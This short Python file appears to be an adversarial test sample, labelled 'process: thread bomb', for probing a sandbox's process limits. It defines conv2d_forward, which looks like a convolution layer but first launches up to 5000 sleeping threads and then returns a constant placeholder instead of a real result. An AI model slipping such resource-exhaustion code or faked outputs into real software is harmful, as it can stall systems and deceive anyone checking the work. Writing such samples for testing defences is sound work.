"""Starts threads until it is told to stop: at most 5000, each asleep for a minute."""

ATTEMPTS = "process: thread bomb"

import functools
import threading
import time

import numpy as np


@functools.cache  # once
def attack():
    threading.stack_size(64 * 1024)
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(60,)).start()


def conv2d_forward(x, w, b, stride=1, pad=0):
    attack()
    return np.full(1, 123.0), None
